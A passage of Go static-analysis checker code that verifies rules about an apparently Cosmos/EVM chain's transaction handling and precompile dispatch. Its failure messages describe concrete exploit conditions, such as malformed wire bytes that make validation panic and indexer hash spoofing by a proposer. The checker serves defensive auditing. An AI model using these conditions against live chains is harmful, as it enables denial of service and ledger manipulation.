					if n := callInfo(c).Name; n == "IsZero" {
						return false, true
					}
				}
				if b, ok := cond.(*ssa.BinOp); ok {
					if c, ok := stripValue(b.X).(*ssa.Call); ok && callInfo(c).Name == "Sign" {
						if n, okc := constInt(b.Y); okc && n == 0 && b.Op == token.GTR {
							return true, true
						}
						if n, okc := constInt(b.Y); okc && n == 0 && b.Op == token.LEQ {
							return false, true
						}
					}
				}
				return false, false
			})
			var w []ssa.Instruction
			nCoins := 0
			if !canonical {
				sl := backSlice(feeArg)
				for _, c := range findCalls(bt, func(ci CallInfo) bool { return ci.Name == "NewCoin" && strings.HasSuffix(ci.PkgPath, "cosmos-sdk/types") }) {
					cv, ok := c.(*ssa.Call)
					if !ok || !sl.Has(cv) {
						continue
					}
					nCoins++
					if p := (PathQuery{Fn: bt, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(cv) }, DelEdge: edgeSet(pos)}).Search(); p != nil {
						w = p
					}
				}
			}
			r.Check(canonical || (w == nil && (nCoins == 0 || len(pos) > 0)), "R8", fnID(bt)+"#envelope-fee-is-canonical", P.Pos(fnPos(bt)), "fee coins enter the envelope only when positive (or through NewCoins/Add)",
				"BuildTx puts a coin into the envelope's fee without testing that its amount is positive and without normalising the set: for a zero-fee message the envelope carries [0denom], which the recomputed (empty) fee does not equal after a decode — the round trip fails exactly for zero-fee transactions", P.witness(w)...)
		}
	} else {
		r.Bad("R8", "anchor/BuildTx", "", "not found")
	}

	// ---------- R10: unwrap by hash; message-level fee getters delegate ----------
	r.Rule("R10", "PATH.unwrap-returns-the-asked-transaction + SHAPE.fee-getters-delegate: UnwrapEthereumMsg(tx, hash) returns a message only over the edge on which that message's recomputed transaction hash (AsTransaction().Hash()) equals the requested hash — no fast path that hands out the only message of an envelope for any hash; MsgEthereumTx.GetFee / GetEffectiveFee / GetGas return the tx data's own figure (Fee(), EffectiveFee(baseFee), GetGas()) on every non-nil path, with no branch on the base fee — a zero base fee is a base fee, not 'none'")
	if uw, ok := P.FnOK(evmTypes + ".UnwrapEthereumMsg"); ok {
		var hashP *ssa.Parameter
		for _, p := range uw.Params {
			if namedName(p.Type()) == "Hash" {
				hashP = p
			}
		}
		eq, _ := condEdges(uw, func(x, y ssa.Value) bool {
			isAsked := func(v ssa.Value) bool { return hashP != nil && backSlice(v).Has(hashP) }
			isOwn := func(v ssa.Value) bool {
				return backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "Hash" }) && backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "AsTransaction" })
			}
			return isAsked(x) && isOwn(y) || isAsked(y) && isOwn(x)
		})
		w := PathQuery{Fn: uw, Target: func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			if !ok || classifyExit(ret) == ExitFailure {
				return false
			}
			return !isNilConst(stripValue(retOperands(ret)[0]))
		}, DelEdge: edgeSet(eq)}.Search()
		r.Check(w == nil && len(eq) > 0, "R10", fnID(uw)+"#returns-the-asked-transaction", P.Pos(fnPos(uw)), "a message is returned only where its own hash equals the requested one",
			"UnwrapEthereumMsg can hand out a message whose transaction hash was not compared with the requested hash: the caller gets a different transaction than the one it asked for (eth_getTransactionByHash answering an unknown hash with the first pending transaction)", P.witness(w)...)
	} else {
		r.Bad("R10", "anchor/UnwrapEthereumMsg", "", "not found")
	}
	for _, g := range []struct{ name, callee string }{{"GetFee", "Fee"}, {"GetEffectiveFee", "EffectiveFee"}, {"GetGas", "GetGas"}} {
		fn, ok := P.FnOK("(" + evmTypes + ".MsgEthereumTx)." + g.name)
		if !ok {
			r.Bad("R10", "anchor/MsgEthereumTx."+g.name, "", "not found")
			continue
		}
		okAll, nRet := true, 0
		eachInstr(fn, func(in ssa.Instruction) {
			ret, isR := in.(*ssa.Return)
			if !isR || len(ret.Results) == 0 {
				return
			}
			v := stripValue(ret.Results[0])
			if c, isC := v.(*ssa.Const); isC && (c.Value == nil || c.Value.ExactString() == "0") {
				return // the unpack-failure answer
			}
			nRet++
			c, isC := v.(*ssa.Call)
			if !isC || callInfo(c).Name != g.callee {
				okAll = false
			}
		})
		onParam := false
		for _, b := range fn.Blocks {
			if ifi, isIf := lastIf(b); isIf {
				backSlice(ifi.Cond).Any(func(v ssa.Value) bool {
					if p, ok := v.(*ssa.Parameter); ok && p.Name() == "baseFee" {
						onParam = true
					}
					return onParam
				})
			}
		}
		r.Check(okAll && nRet >= 1 && !onParam, "R10", fnID(fn)+"#delegates", P.Pos(fnPos(fn)), "returns txData."+g.callee+"(…) itself, no branch on the base fee",
			"the message-level getter does not simply return the tx data's "+g.callee+"(): for some inputs (a zero base fee) the figure derived from the message differs from the one go-ethereum derives from the original transaction")
	}

	// ---------- R11: every arbitrary-precision field is bounded before it is stored; nil base fee ----------
	r.Rule("R12", "SHAPE.recipient-getters-agree (sibling agreement) + FLOW.priority-from-the-effective-price: (a) the three TxData implementations decide 'contract creation' the same way: GetTo has a single branch, on `tx.To == \"\"`, over whose true edge alone it returns nil — a transfer to the zero address keeps its recipient (a getter that also maps 0x00…00 to nil re-encodes such a transaction as a creation: another hash, another recovered sender); (b) the mempool priority GetTxPriority assigns derives from the message's EffectiveGasPrice(baseFee) (minus the base fee) — the same figure the fee is charged with — and from no other fee getter")
	{
		nGT := 0
		for _, tn := range []string{"LegacyTx", "AccessListTx", "DynamicFeeTx"} {
			fn, ok := P.FnOK("(*x/evm/types." + tn + ").GetTo")
			if !ok {
				r.Bad("R12", "anchor/"+tn+".GetTo", "", "not found")
				continue
			}
			nGT++
			nIf, okCond := 0, true
			var nilEdges []Edge
			for _, b := range fn.Blocks {
				ifi, isIf := lastIf(b)
				if !isIf {
					continue
				}
				nIf++
				bo, isB := ifi.Cond.(*ssa.BinOp)
				if !isB || !(bo.Op == token.EQL || bo.Op == token.NEQ) {
					okCond = false
					continue
				}
				isTo := func(v ssa.Value) bool {
					if _, isC := v.(*ssa.Call); isC {
						return false
					}
					return backSlice(v).HasField(tn, "To") && !backSlice(v).HasCall(func(CallInfo) bool { return true })
				}
				isEmpty := func(v ssa.Value) bool { s, ok := constString(v); return ok && s == "" }
				if !((isTo(bo.X) && isEmpty(bo.Y)) || (isTo(bo.Y) && isEmpty(bo.X))) {
					okCond = false
					continue
				}
				if bo.Op == token.EQL {
					nilEdges = append(nilEdges, Edge{b, 0})
				} else {
					nilEdges = append(nilEdges, Edge{b, 1})
				}
			}
			w := PathQuery{Fn: fn, Target: func(in ssa.Instruction) bool {
				ret, ok := in.(*ssa.Return)
				return ok && len(ret.Results) == 1 && isNilConst(ret.Results[0])
			}, DelEdge: edgeSet(nilEdges)}.Search()
			r.Check(okCond && nIf == 1 && w == nil, "R12", fnID(fn)+"#nil-exactly-for-the-empty-recipient", P.Pos(fnPos(fn)), "one branch, on To == \"\"; nil only over its true edge",
				"GetTo of "+tn+" does not decide 'no recipient' by To == \"\" alone: the three transaction types disagree on which stored recipients mean contract creation, and a transaction of this type to such a recipient (the zero address) is re-encoded without it — its hash and recovered sender change", P.witness(w)...)
		}
		r.Floor("R12", "GetTo implementations", nGT, 3)
		if gp, ok := P.FnOK("x/evm/types.GetTxPriority"); ok {
			okP, bad := false, ""
			eachInstr(gp, func(in ssa.Instruction) {
				ret, ok := in.(*ssa.Return)
				if !ok {
					return
				}
				sl := backSlice(ret.Results...)
				if sl.HasCall(func(g CallInfo) bool { return g.Name == "EffectiveGasPrice" }) {
					okP = true
				}
				sl.Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok {
						switch n := callInfo(c).Name; n {
						case "GetGasTipCap", "GetGasFeeCap", "GetGasPrice", "TxType":
							bad = n
						}
					}
					return false
				})
			})
			r.Check(okP && bad == "", "R12", fnID(gp)+"#priority-from-the-effective-price", P.Pos(fnPos(gp)), "derives from EffectiveGasPrice(baseFee) and no other fee getter",
				"the mempool priority is computed from "+bad+" instead of (only) the message's EffectiveGasPrice(baseFee): a dynamic-fee transaction whose tip cap exceeds fee cap − base fee gets a priority it does not pay for")
		} else {
			r.Bad("R12", "anchor/GetTxPriority", "", "not found")
		}
	}
	r.Rule("R13", "see C10 R13 (imported) + PATH.admission-by-the-transaction's-cost: (a) no Haqq function hands out the mutable big.Int inside an sdk.Int (BigIntMut): a getter of a wrapped transaction's field that returns the stored number lets whoever adds to the result rewrite the message — its value, and with it its hash and recovered sender; (b) the balance check that admits an Ethereum transaction (EthAccountVerificationDecorator) is the keeper's CheckSenderBalance, i.e. go-ethereum's tx.Cost() = fee cap × gas + value, error-checked on every path to next — not the (lower) effective cost")
	r.Import("R13/C10.", []string{"R13"}, runC10)
	if av, ok := P.FnOK("(app/ante/evm.EthAccountVerificationDecorator).AnteHandle"); ok {
		nChk, usesEff := 0, false
		eachCall(av, func(ci CallInfo) {
			if ci.Name == "CheckSenderBalance" && pathHasSuffix(ci.PkgPath, "x/evm/keeper") && errHandled(ci.Instr) {
				nChk++
			}
			if ci.Name == "EffectiveCost" {
				usesEff = true
			}
		})
		r.Check(nChk >= 1 && !usesEff, "R13", fnID(av)+"#admission-by-cost", P.Pos(fnPos(av)), "keeper.CheckSenderBalance (txData.Cost()), error-checked",
			"the decorator that admits Ethereum transactions no longer checks the sender's balance against the transaction's cost (fee cap × gas + value) through the keeper's CheckSenderBalance: a sender holding a fraction of the cost is admitted")
	} else {
		r.Bad("R13", "anchor/EthAccountVerificationDecorator.AnteHandle", "", "not found")
	}
	r.Rule("R14", "PATH.empty-wire-integers-are-refused + block-readers-recompute-the-hash: (a) a custom-type integer field that is present on the wire with length 0 decodes to a non-nil *Int whose inner number is nil; in the stateless Validate of the three transaction types every method called on such a field's value (IsNegative, BigInt, …) is preceded on every path by IsNil() of the same field (or goes through the nil-aware getter, as the legacy and access-list types do) — otherwise ValidateBasic panics on an envelope that still unwraps to the original hash and sender; (b) the indexer of committed blocks (indexer/), which files an entry per message under its hash and also sees transactions that failed DeliverTx — and so possibly never passed ValidateBasic, the only place the recorded hash is compared — does not read MsgEthereumTx.Hash: it recomputes the hash from the message's data")
	{
		nDeref := 0
		for _, tn := range []string{"DynamicFeeTx", "AccessListTx", "LegacyTx"} {
			fn, ok := P.FnOK("(x/evm/types." + tn + ").Validate")
			if !ok {
				r.Bad("R14", "anchor/"+tn+".Validate", "", "not found")
				continue
			}
			ptrField := func(v ssa.Value) (string, bool) {
				if pt, ok := v.Type().Underlying().(*types.Pointer); !ok || namedName(pt.Elem()) != "Int" {
					return "", false
				}
				if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
					if _, f, ok := fieldOfAddr(u.X); ok {
						return f, true
					}
				}
				if _, f, ok := fieldOfValue(v); ok {
					return f, true
				}
				return "", false
			}
			recvField := func(ci CallInfo) (string, bool) {
				if ci.Recv != "Int" || len(ci.Instr.Common().Args) == 0 {
					return "", false
				}
				a := ci.Instr.Common().Args[0]
				if f, ok := ptrField(a); ok { // pointer-receiver method
					return f, true
				}
				if u, ok := a.(*ssa.UnOp); ok && u.Op == token.MUL {
					return ptrField(u.X)
				}
				return "", false
			}
			seen := map[string]int{}
			eachCall(fn, func(ci CallInfo) {
				f, ok := recvField(ci)
				if !ok || ci.Name == "IsNil" {
					return
				}
				nDeref++
				seen[f+"."+ci.Name]++
				w := PathQuery{Fn: fn, Block: isCallMatching(func(g CallInfo) bool {
					gf, ok := recvField(g)
					return ok && g.Name == "IsNil" && gf == f
				}), Target: func(in ssa.Instruction) bool { return in == ci.Instr.(ssa.Instruction) }}.Search()
				r.Check(w == nil, "R14", fmt.Sprintf("%s#%s.%s-%d-after-IsNil", fnID(fn), f, ci.Name, seen[f+"."+ci.Name]), P.Pos(instrPos(ci.Instr)), "preceded by "+f+".IsNil() on every path",
					tn+".Validate calls "+f+"."+ci.Name+"() after testing only the pointer: a "+f+" field present on the wire with length 0 (append 0x1a 0x00 / 0x22 0x00 to a packed "+tn+") decodes to a non-nil Int without a number — the envelope unwraps to the same hash and sender, ValidateBasic panics (code 111222) where the sibling types answer ErrInvalidGasPrice", P.witness(w)...)
			})
		}
		r.Floor("R14", "methods called on wire integers in the stateless Validate functions", nDeref, 2)
		nRead := 0
		for _, fn := range P.Funcs {
			pp := fnPkgPath(fn)
			if !isHaqqPath(pp) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			// the indexer files entries under the hash; the rpc readers only compare a requested hash with it to
			// locate a message inside a transaction the index already points at
			if !(strings.HasSuffix(pp, "/indexer") || strings.Contains(pp, "/indexer/") || pp == "indexer") {
				continue
			}
			idx := 0
			eachInstr(fn, func(in ssa.Instruction) {
				u, ok := in.(*ssa.UnOp)
				if !ok || u.Op != token.MUL {
					return
				}
				if sn, f, ok := fieldOfAddr(u.X); ok && sn == "MsgEthereumTx" && f == "Hash" {
					idx++
					nRead++
					r.Bad("R14", fmt.Sprintf("%s#reads-recorded-hash-%d", fnID(fn), idx), P.Pos(instrPos(in)), "a reader of committed blocks takes the transaction hash from MsgEthereumTx.Hash: blocks also hold transactions that failed DeliverTx with an 'expected failure' marker in the log (a substring test), and a message failing ValidateBasic on its From field (From = \"failed to commit stateDB\") is never compared with its recorded hash — a proposer files someone else's failed message under a victim's hash (the victim's index entry {Height:1 Failed:false} becomes {Height:2 Failed:true})")
				}
			})
		}
		if nRead == 0 {
			r.OK("R14", "block-readers#recorded-hash-unread", "", "no function under indexer/ reads MsgEthereumTx.Hash")
		}
	}
	r.Rule("R15", "FLOW.intrinsic-gas-of-the-transaction-itself: the admission check (keeper.VerifyFee) computes the intrinsic gas of the unwrapped transaction with go-ethereum's IntrinsicGas, whose access-list argument derives from the transaction's own GetAccessList() and is not decided by a branch on the transaction's type — the three types are treated alike: a dynamic-fee transaction's list costs 2400 per address and 1900 per key exactly like an access-list transaction's; dropping it admits a transaction that always fails at delivery after its fee is charged")
	if vf, ok := P.FnOK("x/evm/keeper.VerifyFee"); ok {
		n := 0
		eachCall(vf, func(ci CallInfo) {
			if ci.Name != "IntrinsicGas" || len(ci.Instr.Common().Args) < 2 {
				return
			}
			n++
			al := ci.Instr.Common().Args[1]
			fromTx := backSlice(al).HasCall(func(g CallInfo) bool { return g.Name == "GetAccessList" })
			byType := ""
			for _, b := range vf.Blocks {
				ifi, isIf := lastIf(b)
				if !isIf {
					continue
				}
				if backSlice(ifi.Cond).HasCall(func(g CallInfo) bool { return g.Name == "TxType" }) && dominates(b, ci.Instr.Block()) {
					byType = P.Pos(ifi.Pos())
				}
			}
			r.Check(fromTx && byType == "", "R15", fmt.Sprintf("%s#IntrinsicGas-%d-takes-the-transaction's-access-list", fnID(vf), n), P.Pos(instrPos(ci.Instr)), "access list from GetAccessList(), not decided by TxType()",
				"VerifyFee hands IntrinsicGas an access list that depends on the transaction's type (branch at "+byType+"): a dynamic-fee transaction with an access list and gas limit 31567 is admitted although the intrinsic gas of the original transaction is 31568 — it is charged and fails at delivery, while the same transaction as access-list type is refused up front")
		})
		r.Floor("R15", "IntrinsicGas calls in VerifyFee", n, 1)
	} else {
		r.Bad("R15", "anchor/x/evm/keeper.VerifyFee", "", "not found")
	}
	r.Rule("R11", "PATH.wire-integers-bounded-before-storing + nil-base-fee: (a) the constructors that wrap a typed Ethereum transaction (newAccessListTx, NewDynamicFeeTx) store the chain id with SetSignatureValues, which converts with the panicking NewIntFromBigInt — the call is reachable only after an error-checked SafeNewIntFromBigInt / IsValidInt256 of a value derived from tx.ChainId(), as for every amount field: a chain id above 256 bits must be an error like for a legacy transaction, not a panic; (b) DynamicFeeTx.EffectiveGasPrice reaches the arithmetic helper only over the edge on which the base fee is not nil — without a base fee (London inactive) go-ethereum prices the transaction at its fee cap, the helper dereferences the nil and the minimum-gas-price decorator panics on every dynamic-fee transaction")
	for _, id := range []string{evmTypes + ".newAccessListTx", evmTypes + ".NewDynamicFeeTx"} {
		fn, ok := P.FnOK(id)
		if !ok {
			r.Bad("R11", "anchor/"+id, "", "not found")
			continue
		}
		isBound := isCallMatching(func(ci CallInfo) bool {
			if !(ci.Name == "SafeNewIntFromBigInt" || ci.Name == "IsValidInt256") {
				return false
			}
			return backSlice(ci.Instr.Common().Args...).HasCall(func(g CallInfo) bool { return g.Name == "ChainId" })
		})
		isStore := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetSignatureValues" })
		w := PathQuery{Fn: fn, Block: isBound, Target: isStore}.Search()
		r.Check(w == nil, "R11", fnID(fn)+"#chain-id-bounded", P.Pos(fnPos(fn)), "SetSignatureValues only after the chain id passed the 256-bit bound",
			"the constructor stores tx.ChainId() without bounding it first: a signed typed transaction with a chain id above 256 bits makes wrapping panic instead of returning an error (a legacy transaction with the same chain id round-trips)", P.witness(w)...)
	}
	if eg, ok := P.FnOK("(*" + evmTypes + ".DynamicFeeTx).EffectiveGasPrice"); ok {
		var bp *ssa.Parameter
		for _, p := range eg.Params {
			if p.Name() == "baseFee" {
				bp = p
			}
		}
		_, ne := condEdges(eg, func(x, y ssa.Value) bool { return bp != nil && stripValue(x) == ssa.Value(bp) && isNilConst(y) })
		isHelper := isCallMatching(func(ci CallInfo) bool { return ci.Name == "EffectiveGasPrice" && ci.Recv == "" })
		w := PathQuery{Fn: eg, Target: isHelper, DelEdge: edgeSet(ne)}.Search()
		r.Check(w == nil && len(ne) > 0, "R11", fnID(eg)+"#nil-base-fee", P.Pos(fnPos(eg)), "the arithmetic helper is reached only with a non-nil base fee",
			"DynamicFeeTx.EffectiveGasPrice hands a possibly nil base fee to the arithmetic helper (tip + baseFee): with London inactive the figures derived from the message panic, where go-ethereum answers the fee cap", P.witness(w)...)
	} else {
		r.Bad("R11", "anchor/DynamicFeeTx.EffectiveGasPrice", "", "not found")
	}

	// ---------- R9: the 256-bit bound admits the all-ones word ----------
	r.Rule("R9", "SHAPE.bound-admits-max-uint256: IsValidInt256 — the bound every amount field passes when an Ethereum transaction is wrapped and validated — accepts exactly the values of at most 256 bits: its comparison is BitLen() <= 256 (or the same class: > 256, < 257, >= 257; or CmpAbs(MaxBig256) <= 0 and its class) — an exclusive bound rejects 2^256-1, a value every field may legally hold")
	if iv, ok := P.FnOK("types.IsValidInt256"); ok {
		okB, seen := false, ""
		eachInstr(iv, func(in ssa.Instruction) {
			b, ok := in.(*ssa.BinOp)
			if !ok {
				return
			}
			c, ok := stripValue(b.X).(*ssa.Call)
			if !ok {
				return
			}
			n, okc := constInt(b.Y)
			if !okc {
				return
			}
			name := callInfo(c).Name
			seen = fmt.Sprintf("%s() %s %d", name, b.Op, n)
			switch name {
			case "BitLen":
				okB = (b.Op == token.LEQ || b.Op == token.GTR) && n == 256 || (b.Op == token.LSS || b.Op == token.GEQ) && n == 257
			case "CmpAbs", "Cmp":
				isMax := backSlice(c.Call.Args...).Any(func(v ssa.Value) bool {
					g, ok := v.(*ssa.Global)
					return ok && (g.Name() == "MaxBig256" || g.Name() == "MaxUint256")
				})
				okB = isMax && ((b.Op == token.LEQ || b.Op == token.GTR) && n == 0 || (b.Op == token.LSS || b.Op == token.GEQ) && n == 1)
			}
		})
		r.Check(okB, "R9", fnID(iv)+"#bound-admits-max-uint256", P.Pos(fnPos(iv)), "bound is "+seen,
			"IsValidInt256 compares with "+seen+": the bound is not 'at most 256 bits' — a maximal amount (2^256-1) in value, gas price, fee cap, tip cap or the fee product makes wrapping or validation of a well-formed signed transaction fail")
	} else {
		r.Bad("R9", "anchor/types.IsValidInt256", "", "not found")
	}
}

// sameLoop: a and b have the same innermost enclosing natural loop (and are inside one).
func sameLoop(a, b *ssa.BasicBlock) bool {
	ha, hb := innermostLoop(a), innermostLoop(b)
	return ha != nil && ha == hb
}

// loopBody: natural loop of header h = h plus the blocks that reach a back-edge predecessor of h without passing h.
func loopBody(h *ssa.BasicBlock) map[*ssa.BasicBlock]bool {
	body := map[*ssa.BasicBlock]bool{h: true}
	var work []*ssa.BasicBlock
	for _, p := range h.Preds {
		if dominates(h, p) && !body[p] {
			body[p] = true
			work = append(work, p)
		}
	}
	for len(work) > 0 {
		x := work[len(work)-1]
		work = work[:len(work)-1]
		for _, p := range x.Preds {
			if !body[p] {
				body[p] = true
				work = append(work, p)
			}
		}
	}
	return body
}

func innermostLoop(b *ssa.BasicBlock) *ssa.BasicBlock {
	var best *ssa.BasicBlock
	bestSize := 0
	for _, h := range b.Parent().Blocks {
		if !isLoopHeader(h) {
			continue
		}
		body := loopBody(h)
		if body[b] && (best == nil || len(body) < bestSize) {
			best, bestSize = h, len(body)
		}
	}
	return best
}

func isLoopHeader(b *ssa.BasicBlock) bool {
	for _, p := range b.Preds {
		if dominates(b, p) {
			return true
		}
	}
	return false
}

// indexedByLoopOnly: every element selection in the slice uses a loop-carried index (no constant index such
// as x[0]) and there is at least one — the value belongs to the current iteration's element.
func indexedByLoopOnly(s *Slice) bool {
	n, constIdx := 0, false
	s.Any(func(v ssa.Value) bool {
		var idx ssa.Value
		switch x := v.(type) {
		case *ssa.IndexAddr:
			idx = x.Index
		case *ssa.Index:
			idx = x.Index
		default:
			return false
		}
		n++
		if _, ok := idx.(*ssa.Const); ok {
			constIdx = true
		}
		return false
	})
	return n > 0 && !constIdx
}
