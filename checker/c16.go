package main

import (
		"go/token"
	"fmt"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C16",
		Run: runC16,
		Explanation: "Static analysis of the precompile dispatch tables and handlers: (R1) for every wired stateful precompile the ABI function names, the Run switch cases and the IsTransaction set agree, every state-changing handler is classified as a transaction and no query is; " +
			"(R2) each transaction handler dispatches to the module's own message server / keeper method tabled for it, with the decoder's message passed unmodified, and the decoder puts the address it returns (the one the identity check uses) into the message it builds; " +
			"(R3) SDK gas consumed by the handler is charged to the EVM contract gas on every success path and the SDK gas meter is limited by the contract's gas.",
		Assumptions: []string{"the SDK message servers implement the native messages", "ABI decoding by go-ethereum's abi package"},
		Declined:    []string{"equality of resulting stores/outputs with the native message", "equality of query results with the native gRPC queries"},
		Thorough:    wholeProgramQueries,
	})
}

// nativeDispatch: ABI method → the Cosmos-side call that must carry it.
var nativeDispatch = map[string]map[string]string{
	"precompiles/staking": {
		"createValidator": "MsgServer.CreateValidator", "delegate": "MsgServer.Delegate", "undelegate": "MsgServer.Undelegate",
		"redelegate": "MsgServer.BeginRedelegate", "cancelUnbondingDelegation": "MsgServer.CancelUnbondingDelegation",
	},
	"precompiles/distribution": {
		"setWithdrawAddress": "MsgServer.SetWithdrawAddress", "withdrawDelegatorRewards": "MsgServer.WithdrawDelegatorReward",
		"withdrawValidatorCommission": "MsgServer.WithdrawValidatorCommission", "claimRewards": "Keeper.WithdrawDelegationRewards",
	},
	"precompiles/ics20": {"transfer": "Keeper.Transfer"},
}

func isStateDBMutator(ci CallInfo) bool {
	if ci.Recv != "StateDB" {
		return false
	}
	switch ci.Name {
	case "AddLog", "AddBalance", "SubBalance", "SetBalance", "SetNonce", "SetCode", "SetState", "Suicide", "CreateAccount":
		return true
	}
	return false
}

// handlerMutates: Cosmos effects or StateDB mutators reachable from the handler inside precompile packages.
func handlerMutates(fn *ssa.Function, depth int, seen map[*ssa.Function]bool) (bool, string) {
	if fn == nil || fn.Blocks == nil || seen[fn] {
		return false, ""
	}
	seen[fn] = true
	found, what := false, ""
	for _, f := range withAnon(fn) {
		eachCall(f, func(ci CallInfo) {
			if found {
				return
			}
			if isCosmosEffect(ci) || isStateDBMutator(ci) {
				found, what = true, ci.String()
				return
			}
			if depth > 0 && ci.Static != nil && strings.Contains(fnPkgPath(ci.Static), "/precompiles/") {
				if ok, w := handlerMutates(ci.Static, depth-1, seen); ok {
					found, what = true, w
				}
			}
		})
	}
	return found, what
}

func runC16(r *Run) {
	P := r.P
	r.Rule("R1", "TABLE.abi-switch-istx: ABI function names = Run switch case constants; IsTransaction ⊆ cases; a handler from which a Cosmos effect or StateDB mutator is reachable ⇔ its method is in IsTransaction")
	r.Rule("R2", "FLOW.native-message: before the native call a transaction handler fails only on decoder errors, identity/grant checks and tabled shared pre-conditions (no rejection of its own); each transaction handler calls exactly the tabled message-server/keeper method, error-checked, on every path to a success exit (per-element loops are R5's); the message argument is the decoder's first result with no field store in the handler; the message server is constructed by the module's NewMsgServerImpl; in the decoder the returned message depends on the returned address")
	r.Rule("R3", "PATH.gas: in each Run every success exit is preceded by contract.UseGas(GasConsumed − initialGas) whose false result is a failure exit; RunSetup installs a gas meter limited by contract.Gas and returns the gas consumed before the handler as initialGas")

	models := wiredPrecompiles(r)
	nTx := 0
	for _, m := range models {
		if !m.Stateful {
			continue
		}
		where := P.Pos(fnPos(m.Run))
		// ---- R1 ----
		var cases []string
		for _, h := range m.Handlers {
			cases = append(cases, h.Method)
		}
		sort.Strings(cases)
		r.Check(strings.Join(cases, ",") == strings.Join(m.ABIFuncs, ","), "R1", m.Rel+"#abi=cases", where,
			fmt.Sprintf("%d ABI functions = %d switch cases", len(m.ABIFuncs), len(cases)),
			fmt.Sprintf("ABI functions %v differ from the Run switch cases %v: an ABI method without a case returns empty success (or the unknown-method error), a case without an ABI entry is unreachable", diffSets(m.ABIFuncs, cases), diffSets(cases, m.ABIFuncs)))
		caseSet := map[string]bool{}
		for _, c := range cases {
			caseSet[c] = true
		}
		for _, t := range m.TxNames {
			if !caseSet[t] {
				r.Bad("R1", m.Rel+"#istx-without-case/"+t, where, "IsTransaction names a method that has no case in Run")
			}
		}
		for _, h := range m.Handlers {
			if h.Fn == nil {
				r.Bad("R1", m.Rel+"#"+h.Method+"/handler", where, "case has no resolvable handler call")
				continue
			}
			mut, what := handlerMutates(h.Fn, 3, map[*ssa.Function]bool{})
			inst := m.Rel + "#classification/" + h.Method
			switch {
			case mut && !h.IsTx:
				r.Bad("R1", inst, P.Pos(fnPos(h.Fn)), "handler changes state ("+what+") but its method is not in IsTransaction: it can be invoked through STATICCALL / read-only context and is priced as a query")
			case !mut && h.IsTx:
				r.Bad("R1", inst, P.Pos(fnPos(h.Fn)), "method is classified as a transaction but its handler changes nothing: read-only callers (STATICCALL) are rejected")
			default:
				r.OK("R1", inst, P.Pos(fnPos(h.Fn)), fmt.Sprintf("mutates=%v isTransaction=%v", mut, h.IsTx))
			}
		}
		// ---- R2 ----
		table := nativeDispatch[m.Rel]
		for _, h := range m.Handlers {
			if !h.IsTx || h.Fn == nil {
				continue
			}
			kind, sites := classifyHandler(h)
			if kind != hkSpend {
				continue
			}
			nTx++
			inst := fnID(h.Fn)
			want, tabled := table[h.Method]
			if !tabled {
				r.Bad("R2", inst+"#native-dispatch", P.Pos(fnPos(h.Fn)), "transaction method "+h.Method+" has no entry in the native-message table (new method: confirm which message it corresponds to)")
				continue
			}
			var got []string
			var disp ssa.CallInstruction
			for _, s := range sites {
				if isAuthzGrantWrite(s.Info) {
					continue
				}
				got = append(got, effectName(s.Info))
				if effectName(s.Info) == want && s.Call.Parent() == h.Fn {
					disp = s.Call
				}
			}
			sort.Strings(got)
			got = uniq(got)
			r.Check(len(got) == 1 && got[0] == want, "R2", inst+"#native-dispatch", P.Pos(fnPos(h.Fn)), "dispatches to "+want,
				fmt.Sprintf("handler of %s performs %v; the native message corresponds to exactly %s", h.Method, got, want))
			if disp == nil {
				continue
			}
			// the native call happens on every success path (no fast path that answers "done" without it)
			if innermostLoop(disp.Block()) == nil {
				isDisp := func(in ssa.Instruction) bool { return in == ssa.Instruction(disp) }
				w := PathQuery{Fn: h.Fn, Block: isDisp, Target: isSuccessExit}.Search()
				r.Check(w == nil && errHandled(disp), "R2", inst+"#native-call-on-every-success", P.Pos(instrPos(disp)), "every success exit is preceded by the error-checked native call",
					"a success exit of the handler is reachable without the (error-checked) call of "+want+": for some inputs the precompile reports success, emits its event and charges gas while the native message would have changed (or refused to change) the state", P.witness(w)...)
			}
			// no rejection of its own: before the native call the handler may fail only for the tabled reasons
			{
				allowedErrSrc := func(c *ssa.Call) bool {
					ci := callInfo(c)
					if ci.Static != nil && strings.Contains(fnPkgPath(ci.Static), "/precompiles/") {
						// argument decoders (they take the ABI-decoded argument list) and the authorization helpers of the
						// precompile packages — not helpers that consult chain state for a pre-condition of their own
						for _, p := range ci.Static.Params {
							if sl, ok := p.Type().Underlying().(*types.Slice); ok {
								if _, isI := sl.Elem().Underlying().(*types.Interface); isI {
									return true
								}
							}
						}
						n := ci.Static.Name()
						if pathHasSuffix(fnPkgPath(ci.Static), "precompiles/authorization") || strings.Contains(n, "Authz") || strings.Contains(n, "Authorization") || strings.Contains(n, "Allowance") || grantCheckWrapperOK(ci.Static) {
							return true
						}
						return false
					}
					switch ci.Name {
					case "ValAddressFromBech32", "AccAddressFromBech32", "UseGas":
						return true
					}
					return false
				}
				isAddr := func(v ssa.Value) bool {
					n := namedName(v.Type())
					return n == "Address" || n == "AccAddress" || n == "ValAddress"
				}
				nPre := 0
				for _, b := range h.Fn.Blocks {
					ifi, ok := lastIf(b)
					if !ok || !blockReachesMemo(b, disp.Block()) || b == disp.Block() {
						continue
					}
					// a deciding branch: one side cannot reach the dispatch any more
					decides := false
					for _, sc := range b.Succs {
						if sc != disp.Block() && !blockReachesMemo(sc, disp.Block()) {
							decides = true
						}
					}
					if !decides {
						continue
					}
					nPre++
					cond := ifi.Cond
					for {
						if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
							cond = u.X
							continue
						}
						break
					}
					okKind, why := false, "an unclassified condition"
					switch x := cond.(type) {
					case *ssa.BinOp:
						for _, o := range []ssa.Value{x.X, x.Y} {
							if ex, ok := o.(*ssa.Extract); ok {
								if c, ok := ex.Tuple.(*ssa.Call); ok && allowedErrSrc(c) && (isErrorType(ex.Type()) || true) {
									okKind = true
								}
							}
							if c, ok := o.(*ssa.Call); ok && allowedErrSrc(c) {
								okKind = true
							}
						}
						if (x.Op == token.EQL || x.Op == token.NEQ) && isAddr(x.X) && isAddr(x.Y) {
